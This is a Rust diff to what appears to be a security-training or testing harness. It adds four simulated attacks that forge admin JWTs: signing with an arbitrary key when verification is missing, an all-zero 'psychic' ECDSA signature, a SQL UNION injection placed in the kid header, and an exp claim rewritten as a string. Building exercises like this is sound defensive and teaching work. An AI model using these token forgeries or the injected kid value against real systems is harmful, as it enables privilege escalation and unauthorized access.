@@ -128,6 +128,40 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
             w.follow_link_to_attacker();
             w.attacker_send("/api/admin").unwrap()
         }
+        Weakness::NoVerify => {
+            let token = hs256(
+                r#"{"alg":"HS256","typ":"JWT"}"#,
+                &admin_claims(w),
+                b"anything",
+            );
+            admin(w, token)
+        }
+        Weakness::PsychicEcdsa => {
+            // Alice's own header (the issuer's kid), her claims made admin,
+            // and a signature of 64 zero bytes.
+            let issued = w.token().unwrap();
+            let header = issued.split('.').next().unwrap().to_string();
+            let claims = b64(&admin_claims(w));
+            admin(w, format!("{header}.{claims}.{}", "A".repeat(86)))
+        }
+        Weakness::KidSql => {
+            let header = r#"{"alg":"HS256","typ":"JWT","kid":"x' UNION SELECT 'attacker-key' --"}"#;
+            let token = hs256(header, &admin_claims(w), b"attacker-key");
+            admin(w, token)
+        }
+        Weakness::ExpString => {
+            let claims = admin_claims(w);
+            let exp = claims.split("\"exp\":").nth(1).unwrap();
+            let number: String = exp.chars().take_while(char::is_ascii_digit).collect();
+            let claims = claims.replace(&format!("\"exp\":{number}"), "\"exp\":\"1000000000\"");
+            let token = hs256(
+                r#"{"alg":"HS256","typ":"JWT"}"#,
+                &claims,
+                w.secret().as_bytes(),
+            );
+            w.set_token_text(token);
+            w.get("/api/profile")
+        }
     }
 }
 
